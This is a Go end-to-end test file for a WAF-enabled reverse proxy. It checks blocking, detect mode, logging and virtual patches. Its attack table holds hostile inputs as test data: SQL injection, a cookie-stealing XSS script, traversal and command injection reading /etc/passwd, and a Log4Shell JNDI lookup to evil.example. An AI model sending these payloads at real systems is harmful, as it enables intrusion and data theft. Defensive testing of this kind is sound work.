package e2e

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// wafSetup is a Gatehouse with the WAF on in front of Gunicorn, whose
// access log records every request that reached the app.
type wafSetup struct {
	g                     *gatehouse
	addr, admin           string
	appLog, access, audit string
	patches, cfg          string
}

func startWAFSetup(t *testing.T) *wafSetup {
	t.Helper()
	dir := t.TempDir()
	s := &wafSetup{addr: freeAddr(t), admin: freeAddr(t), appLog: filepath.Join(dir, "app.log"),
		access: filepath.Join(dir, "access.log"), audit: filepath.Join(dir, "audit.log"), patches: filepath.Join(dir, "patches.json")}
	up := freeAddr(t)
	cmd := gunicornCmd(t, up, 2, "app")
	cmd.Args = append(cmd.Args, "--access-logfile", s.appLog)
	runPeer(t, "gunicorn", cmd, syscall.SIGTERM, up)
	s.cfg = fmt.Sprintf(`admin: %s
access_log: {output: %q}
waf_log: %q
waf_patches: %q
sites:
  - listen: ["http://%s"]
    hosts: ["app.example.com"]
    waf: on
    routes:
      - path: /
        proxy: {to: "http://%s"}
      - path: /watch/
        waf: {mode: detect}
        proxy: {to: "http://%s"}
      - path: /open/
        waf: off
        proxy: {to: "http://%s"}
      - path: /uploads/
        waf:
          rules:
            # docs/waf.md's three recipes: REST methods, octet-stream
            # bodies and Expect.
            - SecAction "id:1202,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'"
            - SecAction "id:1200,phase:1,pass,nolog,setvar:'tx.allowed_request_content_type=|application/x-www-form-urlencoded| |multipart/form-data| |text/xml| |application/xml| |application/soap+xml| |application/json| |application/octet-stream|'"
            - SecAction "id:1201,phase:1,pass,nolog,setvar:'tx.restricted_headers_basic=/content-encoding/ /proxy/ /lock-token/ /content-range/ /if/ /x-http-method-override/ /x-http-method/ /x-method-override/ /x-middleware-subrequest/'"
        proxy: {to: "http://%s"}
`, s.admin, s.access, s.audit, s.patches, s.addr, up, up, up, up)
	s.g = startGatehouse(t, s.cfg, s.addr, s.admin)
	return s
}

// do sends a request as a browser would (a Host name, an Accept field)
// and returns the status and body.
func (s *wafSetup) do(t *testing.T, method, path string, body io.Reader, hdr map[string]string) (int, string) {
	t.Helper()
	fields := map[string]string{"Host": "app.example.com", "Accept": "text/html,application/json;q=0.9,*/*;q=0.8",
		"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"}
	for k, v := range hdr {
		fields[k] = v
	}
	res, b := send(t, method, "http://"+s.addr+path, body, fields)
	return res.StatusCode, string(b)
}

// reachedApp reports whether the app's access log shows marker.
func (s *wafSetup) reachedApp(t *testing.T, marker string) bool {
	t.Helper()
	time.Sleep(50 * time.Millisecond) // Gunicorn writes its log after answering
	b, _ := os.ReadFile(s.appLog)
	return bytes.Contains(b, []byte(marker))
}

// accessRecord finds the access log record of the request whose URI
// contains marker.
func (s *wafSetup) accessRecord(t *testing.T, marker string) map[string]any {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		b, _ := os.ReadFile(s.access)
		for _, line := range bytes.Split(b, []byte("\n")) {
			var rec map[string]any
			if json.Unmarshal(line, &rec) == nil && strings.Contains(fmt.Sprint(rec["uri"]), marker) {
				return rec
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("no access log record for %s", marker)
	return nil
}

func TestWAFBlocksAttacksAndPassesOrdinaryTraffic(t *testing.T) {
	t.Parallel()
	s := startWAFSetup(t)
	attacks := []struct {
		name, method, path, body, ctype string
		hdr                             map[string]string
		rule                            string
	}{
		{name: "sqli", method: "GET", path: "/echo?m=sqli&id=" + url.QueryEscape("1' OR '1'='1"), rule: "942100"},
		{name: "xss", method: "POST", path: "/echo?m=xss", body: "comment=" + url.QueryEscape("<script>alert(document.cookie)</script>"),
			ctype: "application/x-www-form-urlencoded", rule: "941100"},
		{name: "traversal", method: "GET", path: "/echo?m=traversal&file=../../../../etc/passwd", rule: "930100"},
		{name: "rce", method: "GET", path: "/echo?m=rce&host=" + url.QueryEscape("127.0.0.1; cat /etc/passwd"), rule: "932"},
		{name: "log4shell", method: "GET", path: "/echo?m=log4shell", hdr: map[string]string{"User-Agent": "${jndi:ldap://evil.example/a}"}, rule: "944150"},
		{name: "scanner", method: "GET", path: "/echo?m=scanner", hdr: map[string]string{"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"}, rule: "913100"},
		{name: "json-sqli", method: "POST", path: "/echo?m=json-sqli", body: `{"q": "1 UNION SELECT password FROM users--"}`, ctype: "application/json", rule: "942"},
	}
	for _, a := range attacks {
		hdr := map[string]string{}
		for k, v := range a.hdr {
			hdr[k] = v
		}
		if a.ctype != "" {
			hdr["Content-Type"] = a.ctype
		}
		var body io.Reader
		if a.body != "" {
			body = strings.NewReader(a.body)
		}
		status, page := s.do(t, a.method, a.path, body, hdr)
		if status != http.StatusForbidden || !strings.Contains(page, "403 Forbidden") {
			t.Errorf("%s: status %d, want 403 with the error page; body %.200q", a.name, status, page)
		}
		if s.reachedApp(t, "m="+a.name) {
			t.Errorf("%s: the attack reached the app", a.name)
		}
		rec := s.accessRecord(t, "m="+a.name)
		if rec["waf"] != "block" || !strings.Contains(fmt.Sprint(rec["waf_rules"]), a.rule) || rec["waf_score"].(float64) < 5 {
			t.Errorf("%s: access log waf=%v rules=%v score=%v, want block with %s and a score", a.name, rec["waf"], rec["waf_rules"], rec["waf_score"], a.rule)
		}
	}

	// Ordinary traffic passes at paranoia 1, bodies intact.
	form := "name=" + url.QueryEscape("Miles O'Brien") + "&comment=" + url.QueryEscape("It's fine, isn't it? Let's meet at O'Hare.")
	if status, body := s.do(t, "POST", "/echo?m=form", strings.NewReader(form), map[string]string{"Content-Type": "application/x-www-form-urlencoded"}); status != 200 || body != form {
		t.Errorf("form with apostrophes: %d %q", status, body)
	}
	js := `{"user": {"name": "O'Brien", "email": "miles@example.com"}, "tags": ["a", "b"], "count": 3}`
	if status, body := s.do(t, "POST", "/echo?m=json", strings.NewReader(js), map[string]string{"Content-Type": "application/json"}); status != 200 || body != js {
		t.Errorf("JSON API: %d %q", status, body)
	}
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	_ = mw.WriteField("title", "Holiday photo")
	fw, _ := mw.CreateFormFile("file", "photo.jpg")
	photo := bytes.Repeat([]byte{0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 'J', 'F', 'I', 'F'}, 50000)
	_, _ = fw.Write(photo)
	_ = mw.Close()
	sum := sha256.Sum256(mp.Bytes())
	if status, body := s.do(t, "POST", "/sha?m=upload", bytes.NewReader(mp.Bytes()), map[string]string{"Content-Type": mw.FormDataContentType()}); status != 200 ||
		!strings.HasPrefix(body, fmt.Sprintf("%d %s", mp.Len(), hex.EncodeToString(sum[:]))) {
		t.Errorf("file upload: %d %q", status, body)
	}
	for _, m := range []string{"m=form", "m=json", "m=upload"} {
		if !s.reachedApp(t, m) {
			t.Errorf("%s did not reach the app", m)
		}
	}

	// The CRS refuses PUT, octet-stream bodies and Expect; the route that
	// allows them takes all three.
	blob := strings.Repeat("text data ", 200)
	octet := map[string]string{"Content-Type": "application/octet-stream", "Expect": "100-continue"}
	if status, _ := s.do(t, "PUT", "/echo?m=octet-refused", strings.NewReader(blob), octet); status != 403 {
		t.Errorf("octet-stream with Expect on a CRS default route: %d, want 403", status)
	}
	if status, body := s.do(t, "PUT", "/uploads/echo?m=octet-allowed", strings.NewReader(blob), octet); status != 200 || body != blob {
		t.Errorf("octet-stream with Expect where allowed: %d (%d bytes back)", status, len(body))
	}

	// Detect mode lets the attack through and logs it; off inspects
	// nothing.
	if status, _ := s.do(t, "GET", "/watch/echo?m=detected&id="+url.QueryEscape("1' OR '1'='1"), nil, nil); status != 200 {
		t.Errorf("detect mode: status %d, want 200", status)
	}
	if rec := s.accessRecord(t, "m=detected"); rec["waf"] != "detect" || !strings.Contains(fmt.Sprint(rec["waf_rules"]), "942100") {
		t.Errorf("detect mode: access log waf=%v rules=%v", rec["waf"], rec["waf_rules"])
	}
	if status, _ := s.do(t, "GET", "/open/echo?m=unguarded&id="+url.QueryEscape("1' OR '1'='1"), nil, nil); status != 200 {
		t.Errorf("waf off: status %d, want 200", status)
	}

	// The audit log has the blocked SQL injection with its rules.
	audit, _ := os.ReadFile(s.audit)
	if !bytes.Contains(audit, []byte(`"action":"block"`)) || !bytes.Contains(audit, []byte(`"id":942100`)) {
		t.Errorf("audit log lacks the blocked SQL injection:\n%.2000s", audit)
	}
	_, mb := get(t, "http://"+s.admin+"/metrics", nil)
	metrics := string(mb)
	for _, want := range []string{`gatehouse_waf_requests_total{action="block",site="app.example.com"} 8`, `gatehouse_waf_requests_total{action="detect",site="app.example.com"} 1`} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics lack %s", want)
		}
	}
}

func TestWAFVirtualPatches(t *testing.T) {
	t.Parallel()
	s := startWAFSetup(t)
	const rule = `SecRule ARGS:action "@streq export-all" "id:1001,phase:2,deny,status:403,log,msg:'CVE-2026-0001'"`
	probe := func(marker string) int {
		status, _ := s.do(t, "POST", "/echo?m="+marker, strings.NewReader("action=export-all"), map[string]string{"Content-Type": "application/x-www-form-urlencoded"})
		return status
	}
	if got := probe("before"); got != 200 {
		t.Fatalf("before the patch: %d", got)
	}
	if out, code := runCLI(t, "", "patch", "add", "-c", s.g.cfgPath, "cve-2026-0001", rule); code != 0 {
		t.Fatalf("patch add: %s", out)
	}
	// It applies within a second (here: at once, the add returns once
	// the patch is in force).
	deadline := time.Now().Add(time.Second)
	for probe("patched") != 403 {
		if time.Now().After(deadline) {
			t.Fatal("the patch did not block within a second")
		}
		time.Sleep(50 * time.Millisecond)
	}
	if s.reachedApp(t, "m=patched") {
		t.Error("a patched request reached the app")
	}
	// A bad rule is refused with the parser's message.
	res, err := http.Post("http://"+s.admin+"/waf/patches", "application/json", strings.NewReader(`{"id": "bad", "rule": "SecRule ARGS \"@nosuch x\" \"id:1002,deny\""}`))
	if err != nil {
		t.Fatal(err)
	}
	msg, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 400 || !strings.Contains(string(msg), "nosuch") {
		t.Errorf("bad rule: %d %s", res.StatusCode, msg)
	}
	// The list shows the hit.
	var list []struct {
		ID   string `json:"id"`
		Rule string `json:"rule"`
		Hits int    `json:"hits"`
	}
	_, lb := get(t, "http://"+s.admin+"/waf/patches", nil)
	if err := json.Unmarshal(lb, &list); err != nil || len(list) != 1 || list[0].ID != "cve-2026-0001" || list[0].Hits < 1 || list[0].Rule != rule {
		t.Fatalf("patch list: %+v %v", list, err)
	}
	// A reload keeps it.
	if out, code := s.g.reload(); code != 0 {
		t.Fatalf("reload: %s", out)
	}
	if got := probe("reloaded"); got != 403 {
		t.Errorf("after a reload: %d, want 403", got)
	}
	// A restart keeps it (waf_patches).
	s.g.stop()
	s.g = startGatehouse(t, s.cfg, s.addr, s.admin)
	if got := probe("restarted"); got != 403 {
		t.Errorf("after a restart: %d, want 403", got)
	}
	if out, code := runCLI(t, "", "patch", "list", "-c", s.g.cfgPath); code != 0 || !strings.Contains(out, "cve-2026-0001") {
		t.Errorf("patch list: %s", out)
	}
	if out, code := runCLI(t, "", "patch", "rm", "-c", s.g.cfgPath, "cve-2026-0001"); code != 0 {
		t.Fatalf("patch rm: %s", out)
	}
	if got := probe("removed"); got != 200 {
		t.Errorf("after removal: %d, want 200", got)
	}
	req, _ := http.NewRequest("DELETE", "http://"+s.admin+"/waf/patches/cve-2026-0001", nil)
	if res, err := http.DefaultClient.Do(req); err != nil || res.StatusCode != 404 {
		t.Errorf("removing an unknown patch: %v %v", res, err)
	}
}

func TestWAFLetsWebSocketsThrough(t *testing.T) {
	t.Parallel()
	up := startUpgradeEcho(t)
	addr := freeAddr(t)
	startGatehouse(t, fmt.Sprintf(`admin: "off"
sites:
  - listen: ["http://%s"]
    waf: on
    routes:
      - path: /
        proxy: {to: "http://%s"}
`, addr, up), addr)
	echo := upgrade(t, addr)
	echo("hello through the waf")
	echo("<script>alert(1)</script> frames are not inspected")
}
